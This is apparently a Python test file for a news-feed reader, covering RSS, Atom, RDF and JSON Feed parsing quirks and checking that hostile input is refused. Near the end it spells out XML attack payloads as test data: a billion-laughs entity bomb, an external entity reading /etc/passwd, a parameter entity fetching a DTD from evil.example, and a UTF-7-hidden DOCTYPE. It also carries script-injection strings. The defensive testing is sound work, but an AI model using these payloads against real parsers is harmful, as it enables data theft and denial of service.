"""RSS, Atom, RDF and JSON Feed with the quirks of real ones; and XML that attacks."""

import json
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from content.harvest.feed import read_feed
from content.harvest.reading import SourceUnreadable
from content.harvest.xml import Forbidden, read_xml
from content.resources.formats.shapes import BadRecord, Found, record_of

HERE = "https://city.example/news/feed.xml"


def found(body: bytes, content_type: str = "") -> list[Found]:
    return [
        each for each in read_feed(body, HERE, content_type).readings if isinstance(each, Found)
    ]


def channel(item: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return (
        f"{head}<rss version='2.0'><channel><title>City</title><item>{item}</item></channel></rss>"
    ).encode()


def test_html_in_titles_and_texts_becomes_plain_text() -> None:
    (one,) = found(
        channel(
            "<title>&lt;b&gt;Rights&lt;/b&gt; &amp;amp; duties</title><guid>1</guid>"
            "<description><![CDATA[<p>One.</p><script>alert(1)</script><p>Two &ndash; three</p>]]>"
            "</description>"
        )
    )

    assert one.fields["title"] == {"und": "Rights & duties"}
    assert one.fields["summary"] == {"und": "One.\nTwo – three"}


def test_an_item_without_guid_is_known_by_its_link_and_without_link_by_its_text() -> None:
    linked = found(channel("<title>A</title><link>https://city.example/a</link>"))
    bare = found(channel("<title>A</title><description>b</description>"))
    again = found(channel("<title>A</title><description>b</description><pubDate>x</pubDate>"))

    assert linked[0].source_id == "https://city.example/a"
    assert bare[0].source_id.startswith("sha256:")
    assert bare[0].source_id == again[0].source_id


def test_relative_links_are_those_of_the_feed() -> None:
    atom = (
        b'<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://other.example/blog/">'
        b"<title>Blog</title><entry><id>tag:x</id><title type='html'>T</title>"
        b"<link href='post/1'/><content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>"
        b"<p>Text</p></div></content><updated>2026-03-04T05:06:07+02:00</updated></entry></feed>"
    )
    (entry,) = found(atom)
    (item,) = found(channel("<title>A</title><link>../b?c=1</link><guid>1</guid>"))

    assert entry.fields["url"] == "https://other.example/blog/post/1"
    assert entry.fields["summary"] == {"und": "Text"}
    assert entry.modified is not None
    assert entry.modified.isoformat() == "2026-03-04T03:06:07+00:00"
    assert item.fields["url"] == "https://city.example/b?c=1"


@pytest.mark.parametrize(
    ("date", "year"),
    [
        ("Tue, 03 Jun 2025 10:00:00 GMT", 2025),
        ("3 June 2025", 2025),
        ("sometime last week", None),
        ("Thu, 32 Foo 20025 99:99:99 NOPE", None),
        ("", None),
        ("2025-06-03", 2025),
    ],
)
def test_a_date_that_cannot_be_read_is_left_out(date: str, year: int | None) -> None:
    (one,) = found(channel(f"<title>A</title><guid>1</guid><pubDate>{date}</pubDate>"))

    assert one.fields.get("year") == year


def test_encodings_are_those_of_header_declaration_or_bytes() -> None:
    text = "<title>Ciutat, niño, Größe</title><guid>1</guid>"
    latin = channel(text, '<?xml version="1.0" encoding="iso-8859-1"?>').decode().encode("latin-1")
    utf16 = channel(text, '<?xml version="1.0" encoding="utf-16"?>').decode().encode("utf-16")
    plain = channel(text, "").decode().encode("windows-1252")

    for body, kind in ((latin, ""), (utf16, ""), (plain, "text/xml; charset=windows-1252")):
        assert found(body, kind)[0].fields["title"] == {"und": "Ciutat, niño, Größe"}


def test_a_feed_that_is_not_well_formed_is_repaired() -> None:
    answer = read_feed(
        b"<rss><channel><title>A & B</title><item><title>One <br> two</title><guid>1</guid>"
        b"<link>https://city.example/1</link></item><item><title>Cut",
        HERE,
    )

    assert answer.repaired
    assert answer.title == "A & B"
    assert isinstance(answer.readings[0], Found)
    assert answer.readings[0].fields["title"] == {"und": "One two"}


def test_rss_1_is_read_with_its_dublin_core() -> None:
    (one,) = found(
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        b' xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b'<channel rdf:about="https://a.example/"><title>Old feed</title></channel>'
        b'<item rdf:about="https://a.example/1"><title>One</title>'
        b"<link>https://a.example/1</link><dc:date>2019-02-03T04:05:06Z</dc:date>"
        b"<dc:subject>Privacy</dc:subject><dc:creator>Jane Doe</dc:creator></item></rdf:RDF>"
    )

    assert (one.fields["year"], one.fields["topics"]) == (2019, ("privacy",))
    assert "Doe" not in str(one.fields)


def test_json_feed_is_read() -> None:
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "City",
        "language": "ca",
        "items": [
            {"id": 7, "url": "/seven", "content_html": "<p>Set</p>", "tags": ["Privacy", "x"]},
            {"id": "8"},
            "nonsense",
        ],
    }
    answer = read_feed(json.dumps(feed).encode(), HERE)

    seven, eight, nonsense = answer.readings
    assert isinstance(seven, Found)
    assert (seven.source_id, seven.fields["url"]) == ("7", "https://city.example/seven")
    assert seven.fields["title"] == {"ca": "Set"}
    assert (seven.fields["topics"], seven.keywords) == (("privacy",), ("x",))
    assert isinstance(eight, BadRecord)
    assert isinstance(nonsense, BadRecord)


@pytest.mark.parametrize(
    "body", [b"", b"<html><body>Not found</body></html>", b"{}", b"[1]", b"\0"]
)
def test_what_is_no_feed_is_refused(body: bytes) -> None:
    with pytest.raises(SourceUnreadable):
        read_feed(body, HERE)


LAUGHS = (
    '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
FILE = '<!DOCTYPE rss [<!ENTITY c SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE rss [<!ENTITY % c SYSTEM "https://evil.example/x.dtd"> %c;]>'
ONE = '<!DOCTYPE rss [<!entity c "x">]>'


@pytest.mark.parametrize("attack", [LAUGHS, FILE, PARAMETER])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "latin-1"])
def test_xml_that_declares_entities_is_not_read(attack: str, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{attack}<rss version="2.0"><channel>'
    text += "<title>T</title><item><title>&c;</title><guid>1</guid></item></channel></rss>"

    with pytest.raises(Forbidden):
        read_feed(text.encode(encoding), HERE)
    with pytest.raises(SourceUnreadable):
        read_xml(text.encode(encoding))


def test_a_declaration_in_an_encoding_that_hides_it_is_refused() -> None:
    hidden = b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE rss +AFsAPAAh-ENTITY c'

    with pytest.raises(Forbidden):
        read_feed(hidden + b"<rss/>", HERE)


def test_the_document_type_of_old_feeds_is_no_attack() -> None:
    doctype = (
        '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )

    assert len(found(channel("<title>Old</title><guid>1</guid>", doctype))) == 1


def test_a_link_that_a_browser_would_run_is_no_link() -> None:
    (one,) = found(channel("<title>A</title><guid>1</guid><link>javascript:alert(1)</link>"))

    assert "url" not in one.fields


@given(st.binary(max_size=300), st.sampled_from([b"<rss><channel><item>", b"<feed>", b"{", b""]))
def test_no_bytes_break_the_reader(body: bytes, head: bytes) -> None:
    try:
        readings = read_feed(head + body, HERE).readings
    except SourceUnreadable:
        return
    for each in readings:
        if isinstance(each, Found):
            record_of(each, source=HERE, defaults={"kind": "report", "topics": ()})


@settings(max_examples=50)
@given(
    title=st.text(max_size=700),
    guid=st.text(max_size=1500),
    text=st.text(max_size=40),
    link=st.text(max_size=60) | st.sampled_from(["http://[", "//[x", "http://a:b/"]),
)
@example(title="A", guid="1", text="b", link="http://[")
def test_every_item_of_a_json_feed_becomes_a_record_or_a_reason(
    title: str, guid: str, text: str, link: str
) -> None:
    item: dict[str, Any] = {"id": guid, "title": title, "content_text": text, "url": link}
    body = json.dumps({"version": "https://jsonfeed.org/version/1", "items": [item]})

    (reading,) = read_feed(body.encode(), HERE).readings

    if isinstance(reading, Found):
        record_of(reading, source=HERE, defaults={"kind": "report", "topics": ()})
